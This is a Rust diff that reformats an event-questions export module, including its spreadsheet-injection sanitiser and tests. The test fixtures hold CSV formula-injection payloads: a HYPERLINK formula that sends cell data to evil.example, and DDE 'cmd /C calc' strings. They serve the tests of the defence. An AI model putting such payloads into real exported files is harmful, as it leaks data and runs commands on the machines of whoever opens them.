@@ -114,21 +114,11 @@ pub async fn export(
         Format::Csv => csv_body(&rows)?,
         Format::Markdown => markdown(&rows).into_bytes(),
     };
-    let disposition = format!(
-        "attachment; filename=\"questions-{}.{}\"",
-        event.id,
-        format.extension()
-    );
+    let disposition = format!("attachment; filename=\"questions-{}.{}\"", event.id, format.extension());
     let mut response = body.into_response();
     let headers = response.headers_mut();
-    headers.insert(
-        header::CONTENT_TYPE,
-        HeaderValue::from_static(format.content_type()),
-    );
-    headers.insert(
-        header::CACHE_CONTROL,
-        HeaderValue::from_static("private, no-store"),
-    );
+    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(format.content_type()));
+    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("private, no-store"));
     if let Ok(value) = HeaderValue::try_from(disposition) {
         headers.insert(header::CONTENT_DISPOSITION, value);
     }
@@ -151,15 +141,7 @@ fn internal(error: impl std::fmt::Display) -> ApiError {
 }
 
 /// The CSV export's header, one name per [`Row`] field in order.
-const CSV_COLUMNS: [&str; 7] = [
-    "qid",
-    "text",
-    "who",
-    "asked_at",
-    "votes",
-    "answered_at",
-    "hidden",
-];
+const CSV_COLUMNS: [&str; 7] = ["qid", "text", "who", "asked_at", "votes", "answered_at", "hidden"];
 
 /// Starts the CSV export: spreadsheet programs read a CSV without it in the system's legacy
 /// code page and garble non-ASCII text. The JSON and Markdown exports are read as UTF-8
@@ -184,14 +166,7 @@ fn csv_body(rows: &[Row]) -> Result<Vec<u8>, ApiError> {
         ];
         // Every cell, not just the guests' texts: the rule holds whatever a column becomes.
         // The csv writer quotes a cell that needs it (a separator, a quote, a line break).
-        writer
-            .write_record(
-                cells
-                    .map(spreadsheet_safe)
-                    .iter()
-                    .map(|cell| cell.as_bytes()),
-            )
-            .map_err(internal)?;
+        writer.write_record(cells.map(spreadsheet_safe).iter().map(|cell| cell.as_bytes())).map_err(internal)?;
     }
     writer.into_inner().map_err(internal)
 }
@@ -212,7 +187,8 @@ fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
 }
 
 fn markdown(rows: &[Row]) -> String {
-    let mut out = String::from("| asked at | question | who | votes | answered at | hidden |\n|---|---|---|---:|---|---|\n");
+    let mut out =
+        String::from("| asked at | question | who | votes | answered at | hidden |\n|---|---|---|---:|---|---|\n");
     for row in rows {
         out.push_str(&format!(
             "| {} | {} | {} | {} | {} | {} |\n",
@@ -280,10 +256,7 @@ mod tests {
 
     /// One case per character of the OWASP rule, each in the text and the author's name.
     const FORMULAS: [(char, &str); 6] = [
-        (
-            '=',
-            "=HYPERLINK(\"https://evil.example/?\"&A1,\"see slides\")",
-        ),
+        ('=', "=HYPERLINK(\"https://evil.example/?\"&A1,\"see slides\")"),
         ('+', "+1+cmd|' /C calc'!A0"),
         ('-', "-2+3 and a question"),
         ('@', "@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -297,29 +270,16 @@ mod tests {
             assert!(text.starts_with(start));
             assert_eq!(spreadsheet_safe(text), format!("'{text}"), "{start:?}");
             let alone = start.to_string();
-            assert_eq!(
-                spreadsheet_safe(&alone),
-                format!("'{start}"),
-                "{start:?} alone"
-            );
+            assert_eq!(spreadsheet_safe(&alone), format!("'{start}"), "{start:?} alone");
         }
     }
 
     #[test]
     fn other_text_is_kept_as_it_is() {
-        for text in [
-            "",
-            "How = what?",
-            "a - b",
-            " =1+1",
-            "'=already quoted",
-            "\u{FF1D}fullwidth",
-            "2024-01-01T00:00:00Z",
-        ] {
-            assert!(
-                matches!(spreadsheet_safe(text), Cow::Borrowed(kept) if kept == text),
-                "{text:?}"
-            );
+        for text in
+            ["", "How = what?", "a - b", " =1+1", "'=already quoted", "\u{FF1D}fullwidth", "2024-01-01T00:00:00Z"]
+        {
+            assert!(matches!(spreadsheet_safe(text), Cow::Borrowed(kept) if kept == text), "{text:?}");
         }
     }
 
@@ -374,17 +334,9 @@ mod tests {
             let name = format!("{start}Mallory");
             let table = markdown(&[row(text, &name)]);
             let cells: Vec<&str> = table.lines().nth(2).expect("a row").split(" | ").collect();
-            assert_eq!(
-                cells[1],
-                markdown_cell(&format!("'{text}")),
-                "{start:?}: the text"
-            );
+            assert_eq!(cells[1], markdown_cell(&format!("'{text}")), "{start:?}: the text");
             assert!(cells[1].starts_with('\''), "{start:?}: {table}");
-            assert_eq!(
-                cells[2],
-                markdown_cell(&format!("'{name}")),
-                "{start:?}: the name"
-            );
+            assert_eq!(cells[2], markdown_cell(&format!("'{name}")), "{start:?}: the name");
         }
         let plain = markdown(&[row("What is next?", "Ada")]);
         assert!(plain.contains("| What is next? | Ada |"), "{plain}");
